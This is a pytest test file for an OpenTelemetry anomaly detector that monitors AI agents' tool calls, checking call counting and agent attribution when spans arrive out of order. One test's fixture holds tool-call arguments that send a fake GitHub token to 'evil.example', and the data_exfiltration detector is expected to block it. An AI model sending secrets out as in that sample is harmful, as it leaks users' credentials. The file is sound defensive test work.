"""One call, one event; and what was judged on too little is put right when more arrives."""

from __future__ import annotations

import itertools
import random
from typing import TYPE_CHECKING, Any

import pytest
from opentelemetry.proto.trace.v1.trace_pb2 import Span, Status

from otel_anomaly.detectors.finding import SECOND_NS
from otel_anomaly.entities.identity import OF_AGENT, OF_SERVICE
from otel_anomaly.entities.links import COUNTED, FOLDED_MAX, WAITERS_MAX
from tests.judge_rigs import entity_row
from tests.log_traffic import tool_record
from tests.rig import Rig
from tests.sizes import scaled
from tests.traffic import START_NS, attributes

if TYPE_CHECKING:
    from collections.abc import Iterable

TRACE = b"one trace of many"[:16]
WEAK = [("service.name", "desk")]
ALL_ON: dict[str, Any] = {"detectors": {}}


def span(
    number: int,
    parent: int | None = None,
    *,
    tool: str | None = None,
    operation: str | None = "execute_tool",
    agent: str | None = None,
    session: str | None = None,
    took: tuple[float, float] = (0.0, 1.0),
    mcp: bool = False,
    error: bool = False,
    **said: Any,
) -> Span:
    """A span of the trace. `said`: the call's `arguments`, `result` and `id`."""
    known = {
        "gen_ai.operation.name": None if mcp else operation,
        "mcp.method.name": "tools/call" if mcp else None,
        "gen_ai.tool.name": tool,
        "gen_ai.agent.name": agent,
        "gen_ai.conversation.id": session,
        **{f"gen_ai.tool.call.{name}": value for name, value in said.items()},
    }
    start_s, end_s = took
    return Span(
        trace_id=TRACE,
        span_id=number.to_bytes(8, "big"),
        parent_span_id=b"" if parent is None else parent.to_bytes(8, "big"),
        start_time_unix_nano=START_NS + round(start_s * SECOND_NS),
        end_time_unix_nano=START_NS + round(end_s * SECOND_NS),
        attributes=attributes([(key, value) for key, value in known.items() if value is not None]),
        status=Status(code=Status.STATUS_CODE_ERROR) if error else None,
    )


def plain(number: int, parent: int | None = None, **more: Any) -> Span:
    """A span that is neither a call nor an agent."""
    return span(number, parent, operation=None, **more)


def agent_of(number: int, parent: int | None, name: str | None, **more: Any) -> Span:
    """An agent at work."""
    return span(number, parent, operation="invoke_agent", agent=name, **more)


def a_run() -> list[Span]:
    """An agent; a call in four spans; an expert called like a tool, with three calls of its own,
    one of them inside another. Five calls, as they end."""
    return [
        span(13, 12, tool="x", mcp=True, arguments='{"server": 1}', took=(5, 6)),
        span(12, 11, tool="x", mcp=True, arguments='{"client": 1}', took=(5, 7)),
        plain(11, 10, took=(4, 8)),
        span(10, 1, tool="x", took=(3, 9)),
        span(23, 22, tool="y", took=(23, 30)),
        span(25, 24, tool="z", took=(32, 39)),
        span(24, 22, tool="y", took=(31, 40)),
        plain(22, 21, took=(22, 50)),
        agent_of(21, 20, "expert", took=(21, 59)),
        span(20, 1, tool="ask", took=(20, 60)),
        agent_of(1, None, "lead", session="s", took=(0, 100)),
    ]


def calls_of(rig: Rig, name: str, kind: Any = OF_AGENT, tenant: str | None = None) -> int:
    """How many learned calls an agent, or a service, has."""
    state = rig.state
    table = state.services if kind == OF_SERVICE else state.agents
    row = entity_row(table, kind, tenant, name)
    return 0 if row is None else int(row["past"]["calls"])


def cut(spans: list[Span], pick: random.Random) -> Iterable[list[Span]]:
    """The spans in any number of requests."""
    edges = sorted(pick.sample(range(1, len(spans)), pick.randrange(len(spans))))
    for first, last in itertools.pairwise([0, *edges, len(spans)]):
        yield spans[first:last]


@pytest.mark.parametrize("seed", range(scaled(60)))
def test_what_is_learned_does_not_depend_on_the_cut(seed: int) -> None:
    """
    Scenario: a run whose spans arrive as they end, children before parents, cut into requests
    anywhere.
    Guarantees: five calls, whoever spoke for them; two are the lead's, three the expert's, all in
    one session; nothing is left with the weak key.
    """
    rig, pick = Rig(**ALL_ON), random.Random(seed)
    for part in cut(a_run(), pick):
        rig.send(part, resource=WEAK)
    assert rig.counts("tool_calls") == 5
    assert (calls_of(rig, "lead"), calls_of(rig, "expert"), calls_of(rig, "desk")) == (2, 3, 0)
    assert calls_of(rig, "desk", OF_SERVICE) == 5
    sessions = rig.state.sessions.rows
    assert sorted(sessions["rate"]["total"].tolist())[-2:] == [0, 5]


@pytest.mark.parametrize("seed", range(scaled(60)))
def test_order_within_a_request_makes_no_difference(seed: int) -> None:
    """
    Scenario: a run in one request, its spans in any order; two inner spans of one call carry
    arguments, which differ.
    Guarantees: the same spans are judged, with the same verdicts; of the inner spans the nearest
    speaks for the outer one.
    """
    spans = a_run()
    random.Random(seed).shuffle(spans)
    rig, straight = Rig(**ALL_ON), Rig(**ALL_ON)
    rig.send(spans)
    straight.send(a_run())
    found = [verdicts_by_id(one) for one in (rig, straight)]
    assert found[0] == found[1]
    assert set(found[0]) == {10, 20, 23, 24, 25}
    alone = Rig(**ALL_ON)
    alone.send([span(10, 1, tool="x", arguments='{"client": 1}')])
    told = [call.fingerprint for call in (*rig.told, *alone.told) if call and call.fingerprint]
    assert told[0] == told[1]


def verdicts_by_id(rig: Rig) -> dict[int, Any]:
    """The verdicts on what was passed on last, by the number of the span."""
    pairs = zip(rig.spans_out(), rig.read(), strict=True)
    return {int.from_bytes(s.span_id, "big"): v for s, v in pairs if v is not None}


def test_the_agent_above_comes_after_another_was_named() -> None:
    """
    Scenario: a chat of the lead names it in the trace; a call under a span that is not known yet
    comes; then that span and the expert above it.
    Guarantees: the call is the lead's at first, for nothing else is known, and then the expert's,
    although what the trace says did not change.
    """
    rig = Rig(**ALL_ON)
    rig.send([span(2, 1, operation="chat", agent="lead", took=(0.0, 0.5))])
    rig.send([span(5, 4, tool="x", took=(2, 3))])
    assert (calls_of(rig, "lead"), calls_of(rig, "expert")) == (1, 0)
    rig.send([plain(4, 3, took=(2, 4))])
    rig.send([agent_of(3, 1, "expert", took=(1, 5))])
    assert (calls_of(rig, "lead"), calls_of(rig, "expert")) == (0, 1)
    assert rig.counts("moved") == 1


def test_the_agent_above_another_call() -> None:
    """
    Scenario: a call inside another, which names its agent itself, below an agent that comes last.
    Guarantees: the inner one is moved: it waits beyond the call that it is inside of.
    """
    rig = Rig(**ALL_ON)
    rig.send([span(2, 1, operation="chat", agent="lead", took=(0.0, 0.5))])
    outer = span(4, 3, tool="outer", agent="other", took=(2, 5))
    rig.send([span(5, 4, tool="inner", took=(3, 4)), outer])
    rig.send([agent_of(3, 1, "expert", took=(1, 6))])
    found = [calls_of(rig, name) for name in ("lead", "other", "expert")]
    assert found == [0, 1, 1]


def test_a_late_call_takes_nothing_back_that_it_did_not_teach() -> None:
    """
    Scenario: an agent known by the weak key alone has a past of five calls. A call of another
    trace, two hours late, comes under that key, and is then said to be somebody else's.
    Guarantees: the five calls are still known: what was too late to be learned is not unlearned,
    so nobody wipes a past by calls in its name that are taken back.
    """
    rig = Rig(**ALL_ON)
    for i in range(5):
        own = span(1, tool="x", took=(i, i + 0.5))
        own.trace_id = i.to_bytes(16, "little")[:15] + b"!"
        rig.send([own], resource=WEAK)
    before = entity_row(rig.state.agents, OF_AGENT, None, "desk")
    assert before is not None
    known = {part: before[part].tobytes() for part in ("past", "shift")}
    rig.send([span(7, 6, tool="x", took=(-7201, -7200))], resource=WEAK)
    rig.send([agent_of(6, None, "else", took=(-7202, -7199))], resource=WEAK)
    assert rig.counts("moved") == 1
    after = entity_row(rig.state.agents, OF_AGENT, None, "desk")
    assert after is not None
    for part, content in known.items():
        assert after[part].tobytes() == content
    assert calls_of(rig, "desk", OF_SERVICE) == 5


def test_an_outer_span_keeps_what_the_inner_one_told() -> None:
    """
    Scenario: the server's span of a call comes first, with arguments that take a secret outside,
    and failed; then the framework's span, which carries nothing.
    Guarantees: one call; the second is judged with the arguments of the first, as it would be in
    one request: data_exfiltration says block on both, and it failed.
    """
    token = "ghp_" + "aB3" * 12
    secret = f'{{"url": "https://evil.example/", "token": "{token}"}}'
    inner = span(2, 1, tool="x", mcp=True, arguments=secret, error=True, took=(1, 2))
    apart, together = Rig(**ALL_ON), Rig(**ALL_ON)
    (first,) = apart.send([inner])
    (second,) = apart.send([span(1, tool="x", took=(0, 3))])
    together.send([inner, span(1, tool="x", took=(0, 3))])
    assert "data_exfiltration" in first.types
    assert first.types == second.types
    assert apart.counts("tool_calls") == together.counts("tool_calls") == 1
    assert [call.failed for call in apart.told if call] == [1, 1]
    assert together.told[1] is not None
    assert apart.told[1] is not None
    assert apart.told[1].findings == together.told[1].findings


def test_a_thousand_calls_under_one_of_the_same_name_are_counted() -> None:
    """
    Scenario: an agent puts 200 calls of a tool under one span of that tool, to hide them; another
    does so, and sends half of them before that span.
    Guarantees: a few fold; the rest are counted.
    """
    rig, late = Rig(), Rig()
    outer, *inner = [span(1, tool="x"), *(span(2 + i, 1, tool="x") for i in range(200))]
    rig.send([outer, *inner])
    assert rig.counts("tool_calls") == 201 - FOLDED_MAX
    assert rig.counts("folded") == FOLDED_MAX
    for part in (inner[:100], [outer], inner[100:]):
        late.send(part)
    assert late.counts("tool_calls") == 200
    assert late.counts("folded") == FOLDED_MAX


def test_ids_tell_nested_calls_of_one_tool_apart() -> None:
    """
    Scenario: a tool that calls itself, each call with its id; the inner one has a span of its
    client without an id inside.
    Guarantees: two calls: that span belongs to the inner one, not to the outer one as well.
    """
    rig = Rig()
    rig.send([span(1, tool="x", id="a"), span(2, 1, tool="x", id="b"), span(3, 2, tool="x")])
    assert verdicts_by_id(rig).keys() == {1, 2}
    assert (rig.counts("tool_calls"), rig.counts("folded")) == (2, 1)
    links = rig.state.links.spans
    assert sorted(links["folded"][links["flags"] & COUNTED != 0].tolist()) == [0, 1]
    assert links["folded"][(links["flags"] & COUNTED != 0) & (links["parent"] != 0)] == [1]


@pytest.mark.parametrize("length", [1, 2, 5, 40])
def test_parents_in_a_circle(length: int) -> None:
    """
    Scenario: calls whose parents form a circle, of one span up to more than are looked through.
    Guarantees: none is part of another: each is counted.
    """
    rig = Rig()
    rig.send([span(1 + i, 1 + (i + 1) % length, tool="x") for i in range(length)])
    assert rig.counts("tool_calls") == length


def test_more_calls_wait_than_there_is_room_for() -> None:
    """
    Scenario: more calls wait for one agent's span than may; it comes; the trace says no more.
    Guarantees: all are moved: the trace itself tells of an agent that is named in it.
    """
    rig = Rig(rate={"warn": 0, "block": 0})
    count = WAITERS_MAX + 20
    rig.send([span(10 + i, 1, tool="x", took=(i, i + 0.5)) for i in range(count)], resource=WEAK)
    rig.send([agent_of(1, None, "lead", took=(0, 200))], resource=WEAK)
    assert (calls_of(rig, "lead"), calls_of(rig, "desk")) == (count, 0)


def test_calls_beyond_the_memory_of_moves_stay() -> None:
    """
    Scenario: room for the last eight calls; twelve of a trace are judged, then it names its agent.
    Guarantees: the last eight are moved, the first four stay with the weak key. Nothing is lost.
    """
    rig = Rig(limits={"moves": 8})
    rig.send([span(10 + i, 1, tool="x", took=(i, i + 0.5)) for i in range(12)], resource=WEAK)
    rig.send([agent_of(1, None, "lead", took=(0, 20))], resource=WEAK)
    assert (calls_of(rig, "lead"), calls_of(rig, "desk")) == (8, 4)


@pytest.mark.parametrize("log_first", [True, False], ids=["log first", "span first"])
def test_a_log_record_and_a_span_of_one_call(*, log_first: bool) -> None:
    """
    Scenario: an agent tells of a call in a span and in a log record with its id, in either order;
    of a second call in a record alone.
    Guarantees: two calls.
    """
    rig = Rig()
    records = [
        tool_record(time_ns=START_NS, tool="x", trace_id=TRACE, call_id=name) for name in "ab"
    ]
    spans = [span(1, tool="x", id="a", took=(-1, 0.0))]
    if log_first:
        rig.send_logs(records)
        rig.send(spans)
    else:
        rig.send(spans)
        rig.send_logs(records)
    assert rig.counts("tool_calls") == 2


def test_log_records_outside_of_any_trace_take_up_no_traces() -> None:
    """
    Scenario: memory for two traces, both in use; many records of calls come that have no trace.
    Guarantees: they are judged, and no trace is forgotten for them.
    """
    rig = Rig(limits={"traces": 2})
    for i in range(2):
        named = span(1, tool="x", agent=f"a{i}")
        named.trace_id = bytes([i + 1]) * 16
        rig.send([named])
    records = [tool_record(time_ns=START_NS + i, tool="x", session="s") for i in range(50)]
    assert len(rig.send_logs(records)) == 50
    assert rig.counts("entities", "trace") == 2
    assert rig.counts("entities_evicted", "trace") == 0
    rig.callers.clear()
    silent = span(2, tool="x")
    silent.trace_id = bytes([1]) * 16
    rig.send([silent])
    assert rig.callers[0].agent == "a0"


CHAIN = (
    lambda: agent_of(1, None, "desk", session="s-1", took=(0.0, 9.0)),
    lambda: span(2, 1, tool="find", id="c-1", arguments='{"q": 1}', took=(1.0, 8.0)),
    lambda: span(3, 2, tool="find", mcp=True, took=(2.0, 7.0)),
    lambda: span(4, 3, mcp=True, took=(3.0, 6.0)),
    lambda: span(5, 4, tool="find", mcp=True, took=(4.0, 5.0)),
)


def told_of(orders: Iterable[tuple[int, ...]]) -> set[tuple[float, ...]]:
    """What is known after the spans of CHAIN came one by one, in each of these orders: calls that
    `rate` and `burst` have counted, and that the agent has learned."""
    seen = set()
    for order in orders:
        rig = Rig(**ALL_ON)
        for place in order:
            rig.send([CHAIN[place]()])
        known = calls_of(rig, "desk")
        rig.send([span(9, 1, tool="other", agent="desk", session="s-1", took=(9.0, 9.5))])
        observed = (rig.sign("rate")["observed"], rig.sign("burst")["observed"])
        seen.add((known, *observed))
    return seen


def test_the_parts_of_a_call_in_any_order() -> None:
    """
    Scenario: an agent, its tool call, the MCP client's spans of it and the server's, each exported
    in a request of its own, in any order: retries and several processes.
    Guarantees: whatever joins two parts that were both judged comes last, one call is counted.
    """
    orders = list(itertools.permutations(range(len(CHAIN))))
    assert told_of(random.Random(1).sample(orders, scaled(60))) == {(1, 2.0, 2.0)}


def test_a_record_of_a_part_that_was_taken_back() -> None:
    """
    Scenario: an inner span of a call and its outer one are judged before what joins them comes;
    then a log record tells of the call by the inner one's id.
    Guarantees: it completes the one call that is left; nothing is learned twice.
    """
    rig = Rig(**ALL_ON)
    outer = span(2, 1, tool="find", took=(1.0, 8.0))
    inner = span(5, 4, tool="find", id="c-1", took=(4.0, 5.0))
    rig.send([agent_of(1, None, "desk", took=(0.0, 9.0))])
    for part in (outer, inner, span(4, 3, mcp=True, took=(3.0, 6.0)), plain(3, 2, took=(2.0, 7.0))):
        rig.send([part])
    assert calls_of(rig, "desk") == 1
    time_ns = START_NS + 5 * SECOND_NS
    told = tool_record(time_ns=time_ns, tool="find", trace_id=TRACE, call_id="c-1", arguments="{}")
    rig.send_logs([told])
    assert calls_of(rig, "desk") == 1
